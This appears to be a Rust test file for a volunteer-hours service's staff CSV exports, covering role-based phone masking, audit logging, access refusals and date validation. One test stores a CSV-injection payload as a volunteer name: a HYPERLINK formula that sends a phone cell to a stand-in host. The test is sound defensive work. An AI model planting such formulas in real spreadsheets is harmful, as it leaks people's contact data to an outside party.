//! CSV exports: read back as a spreadsheet would, by role.

use super::{AWKWARD_NAME, approved_hour, read_csv, shift_day};
use crate::common::TestServer;
use crate::staff_client::{create, error_of, get, logged, sign_in};
use huli_contract::{ErrorCode, PointId, StaffRole, UnitView};
use serde_json::json;

#[tokio::test]
async fn csv_exports_round_trip_chinese_text_and_mask_phones_by_role() {
    let server = TestServer::start().await;
    let (coordinator, unit, number, volunteer) = approved_hour(&server).await;
    let phone = volunteer.phone.clone();
    create(&server, "admin", StaffRole::Administrator).await;
    let admin = sign_in(&server, "admin").await;
    let day = shift_day(&server, &volunteer).await;

    let path = format!("/api/staff/exports/hours.csv?by=volunteer&from={day}&to={day}");
    let (header, rows) = read_csv(get(&server, Some(&coordinator), &path).await).await;
    assert_eq!(
        header,
        [
            "志愿者编号",
            "姓名",
            "所属队伍",
            "服务次数",
            "已核实时长（小时）"
        ]
    );
    let row = rows
        .iter()
        .find(|r| r[0] == number.to_string())
        .expect("the volunteer's line");
    assert_eq!(row[1], AWKWARD_NAME, "the name survives quoting");
    assert_eq!(row[3..], ["1", "1.00"]);

    let path = format!("/api/staff/exports/hours.csv?by=unit&from={day}&to={day}&lang=en");
    let (header, rows) = read_csv(get(&server, Some(&coordinator), &path).await).await;
    assert_eq!(
        header,
        ["Organising unit", "Volunteers", "Shifts", "Verified hours"]
    );
    assert_eq!(
        rows.len(),
        1,
        "a coordinator's export holds its own unit only"
    );
    let units = get(&server, Some(&admin), "/api/staff/units").await;
    let units: Vec<UnitView> = units.json().await.unwrap();
    let unit_en = &(units
        .iter()
        .find(|u| u.unit.id == unit)
        .unwrap()
        .unit
        .name
        .en);
    // The seed's history may have served the unit that day too (the day before today,
    // in the first hour and a half after midnight in Huli).
    assert_eq!(&rows[0][0], unit_en);
    let unit_hours: f64 = rows[0][3].parse().unwrap();
    assert!(unit_hours >= 1.0, "the approved hour counts for its unit");

    let path = format!("/api/staff/exports/hours.csv?by=team&from={day}&to={day}");
    let (_, by_team) = read_csv(get(&server, Some(&admin), &path).await).await;
    let teams_total: f64 = by_team.iter().map(|r| r[3].parse::<f64>().unwrap()).sum();
    assert!(
        teams_total >= 1.0,
        "the hour is in the district's team export"
    );

    let masked = format!("{}****{}", &phone[..3], &phone[7..]);
    let exported = |rows: &[Vec<String>]| {
        let row = rows.iter().find(|r| r[0] == number.to_string()).unwrap();
        (row[1].clone(), row[2].clone(), row[5].clone())
    };
    let path = "/api/staff/exports/volunteers.csv";
    let (header, rows) = read_csv(get(&server, Some(&coordinator), path).await).await;
    assert_eq!(header[2], "手机号码");
    assert_eq!(
        exported(&rows),
        (AWKWARD_NAME.into(), masked, "1.00".into())
    );
    let (_, rows) = read_csv(get(&server, Some(&admin), path).await).await;
    assert_eq!(
        exported(&rows).1,
        phone,
        "an administrator's export is whole"
    );

    let audit = logged(&server, "export").await;
    assert_eq!(
        audit.len(),
        5,
        "every export is in the audit log: {audit:?}"
    );
}

#[tokio::test]
async fn exports_refuse_point_leaders_strangers_and_bad_periods() {
    let server = TestServer::start().await;
    let leader_role = StaffRole::PointLeader {
        point_id: PointId(1),
    };
    create(&server, "leader", leader_role).await;
    let leader = sign_in(&server, "leader").await;
    create(&server, "admin", StaffRole::Administrator).await;
    let admin = sign_in(&server, "admin").await;
    let hours = "/api/staff/exports/hours.csv?by=unit&from=2026-01-01&to=2026-12-31";
    for path in [hours, "/api/staff/exports/volunteers.csv"] {
        let (status, code) = error_of(get(&server, None, path).await).await;
        assert_eq!((status, code), (401, ErrorCode::StaffSignInRequired));
        let (status, code) = error_of(get(&server, Some(&leader), path).await).await;
        assert_eq!((status, code), (403, ErrorCode::NotAllowed));
    }
    let reversed = "/api/staff/exports/hours.csv?by=unit&from=2026-12-31&to=2026-01-01";
    let response = get(&server, Some(&admin), reversed).await;
    assert_eq!(
        response.status(),
        422,
        "two days that parse, in the wrong order"
    );
    let body: huli_contract::ApiErrorBody = response.json().await.unwrap();
    assert_eq!(body.fields[0].field, "to");
    let response = server
        .client
        .get(server.url("/api/staff/exports/hours.csv?by=unit&from=tomorrow&to=2026-01-01"))
        .header("Cookie", &admin.cookie)
        .header("Accept-Language", "en")
        .send()
        .await
        .unwrap();
    let body: huli_contract::ApiErrorBody = response.json().await.unwrap();
    assert_eq!(body.fields[0].field, "from");
    assert!(
        body.fields[0].message.starts_with("Enter a date"),
        "{body:?}"
    );
}

#[tokio::test]
async fn a_name_that_looks_like_a_formula_is_exported_as_text() {
    let server = TestServer::start().await;
    let (coordinator, _, number, volunteer) = approved_hour(&server).await;
    let formula = "=HYPERLINK(\"http://example.com/\"&C2)";
    // Plain text to the contract, so the volunteer may well call themselves this.
    let renamed = (server.client.put(server.url("/api/me")))
        .bearer_auth(&volunteer.key)
        .json(&json!({"name": formula, "team_id": 1}))
        .send()
        .await
        .unwrap();
    assert_eq!(renamed.status(), 200);
    let (_, rows) = read_csv(
        get(
            &server,
            Some(&coordinator),
            "/api/staff/exports/volunteers.csv",
        )
        .await,
    )
    .await;
    let row = rows.iter().find(|r| r[0] == number.to_string()).unwrap();
    assert_eq!(
        row[1],
        format!("'{formula}"),
        "a spreadsheet shows it, never runs it"
    );
}
